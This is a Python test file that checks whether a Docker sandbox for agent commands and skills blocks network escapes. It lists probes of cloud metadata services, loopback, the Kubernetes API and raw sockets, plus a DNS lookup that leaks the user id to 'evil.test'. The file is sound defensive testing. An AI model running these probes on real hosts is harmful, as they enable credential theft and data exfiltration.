"""Out of a Sandbox without its proxy: to metadata services, this machine, name servers."""

import asyncio
from collections.abc import Iterator, Mapping
from dataclasses import replace

import pytest

from tests.support.attacks import NO_CONTROL, WORKS, Outcomes, assert_refused, furnish, in_shell, nothing_left, outside
from tests.support.internet import HERE, OUTSIDE, Internet
from tests.support.project import Project

pytestmark = [pytest.mark.docker, pytest.mark.internet]

TOML = """
[experts.one]
instruction = "Do."
[experts.one.skills.kit]
type = "mcpStdioSkill"
command = "python3"
args = ["server.py"]
allowedDomains = ["api.public.test"]
"""
NO_ROUTE, NO_RIGHT = "ENETUNREACH", "EACCES"
WITHOUT_PROXY = (
    "import urllib.request; urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open({!r}, None, 5)"
)
QUERY = "b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6canary\\4test\\0\\0\\1\\0\\1'"
DATAGRAM = (
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(({!r}, 53)); "
    f"s.send({QUERY}); s.recv(512)"
)

ATTACKS: Mapping[str, tuple[str, str, str]] = {
    "metadata of AWS, GCP and Azure's virtual machines": ("reach('169.254.169.254', 80)", NO_ROUTE, NO_RIGHT),
    "metadata of AWS's containers": ("reach('169.254.170.2', 80)", NO_ROUTE, NO_RIGHT),
    "metadata of AWS over IPv6": ("reach('fd00:ec2::254', 80)", NO_ROUTE, NO_RIGHT),
    "metadata of GCP by name": ("reach('metadata.google.internal', 80)", "no such name", "no such name"),
    "metadata of Azure": ("reach('168.63.129.16', 80)", NO_ROUTE, NO_RIGHT),
    "metadata of Alibaba": ("reach('100.100.100.200', 80)", NO_ROUTE, NO_RIGHT),
    "this machine's loopback": ("reach('127.0.0.1', 443)", "ECONNREFUSED", NO_RIGHT),
    "this machine's loopback over IPv6": ("reach('::1', 443)", "E(CONNREFUSED|ADDRNOTAVAIL)", NO_RIGHT),
    "this machine's address": (f"reach({HERE!r}, 443)", NO_ROUTE, NO_RIGHT),
    "Docker's bridge": ("reach('172.17.0.1', 80)", NO_ROUTE, NO_RIGHT),
    "Kubernetes' API": ("reach('10.96.0.1', 443)", NO_ROUTE, NO_RIGHT),
    "a host that is declared": (f"reach({OUTSIDE!r}, 443)", NO_ROUTE, NO_RIGHT),
    "without the proxy variables": (WITHOUT_PROXY.format(f"http://{OUTSIDE}/"), "unreachable", "Permission denied"),
    "a name with data in it": (
        "socket.getaddrinfo(f'canary-{os.getuid()}.evil.test', 443)",
        "no such name",
        "no such name",
    ),
    "a name server": (DATAGRAM.format(OUTSIDE), NO_ROUTE, NO_ROUTE),
    "Docker's name server": (DATAGRAM.format("127.0.0.11"), "ECONNREFUSED", "ECONNREFUSED"),
    "pings": ("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)", "EPERM", "EPERM"),
    "forged packets": ("socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)", "EPERM", "EPERM"),
    "frames": ("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", "EPERM", "EPERM"),
    "an interface": (
        "import fcntl; s = socket.socket(); fcntl.ioctl(s, 0x8914, b'lo' + bytes(14) + b'\\x49' + bytes(23))",
        "EPERM",
        "EPERM",
    ),
    "a separate network": ("syscall(272, 0x40000000)", "EPERM", "EPERM"),
    "joining a network": ("syscall(308, os.open('/proc/self/ns/net', 0), 0)", "EPERM", "EPERM"),
}
"""Each with how it must end for `exec`, and for a skill."""
SEATS = {"exec": (), "skill": ("--skill", "kit")}


@pytest.fixture(scope="module")
def outcomes(world: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mapping[str, Outcomes]]:
    """All attacks, from each seat in a Sandbox and from outside of any."""
    root = tmp_path_factory.mktemp("network")
    made = replace(Project.make(root / "project", "docker", TOML, {}), prefix=world.prefix)
    furnish(made)
    attacks = {name: code for name, (code, *_) in ATTACKS.items()}
    found = {"outside": outside(root / "control", attacks, world.prefix)}
    for seat, options in SEATS.items():
        found[seat], _ = asyncio.run(in_shell(made, seat, attacks, *options))
    yield found
    nothing_left(root)


@pytest.mark.behaviour("G11", "G14")
@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_on_the_network_is_reached(outcomes: Mapping[str, Outcomes], name: str) -> None:
    """Neither a command nor a skill gets through, each refused for its own reason; from outside the same works."""
    _, by_exec, by_skill = ATTACKS[name]
    assert outcomes["outside"][name] == WORKS, NO_CONTROL
    assert_refused(outcomes["exec"][name], by_exec)
    assert_refused(outcomes["skill"][name], by_skill)


@pytest.mark.behaviour("G14")
def test_no_name_server_gets_a_query(outcomes: Mapping[str, Outcomes], world: Internet) -> None:
    """Only the control's query for the name with data in it arrived."""
    assert outcomes["exec"].keys() == outcomes["outside"].keys()
    assert {name for name in world.asked() if name.startswith("canary-")} == {"canary-0.evil.test"}
